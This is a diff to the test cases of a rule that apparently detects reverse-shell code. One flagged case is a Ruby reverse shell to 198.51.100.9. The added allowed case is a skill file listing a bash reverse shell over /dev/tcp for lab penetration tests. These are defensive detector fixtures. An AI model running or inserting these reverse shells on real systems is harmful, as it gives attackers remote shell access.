@@ -90,6 +90,10 @@ export default defineRule({
     { "a.rb": 'require "socket"\ns = TCPSocket.new("198.51.100.9", 9001)\nspawn("/bin/sh", in: s)' },
   ],
   good: [
+    {
+      "SKILL.md":
+        "---\nname: a\ndescription: Checklist for authorised penetration tests and their attack techniques\n---\n\n# Attack techniques\n\n- Reverse shells for a lab: `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`\n",
+    },
     "import os\nos.dup2(log.fileno(), 1)",
     { "README.md": "A shell with job control:\n\n```sh\npython3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n```\n" },
     'import subprocess\nsubprocess.run(["bash", "-c", "ls"])',
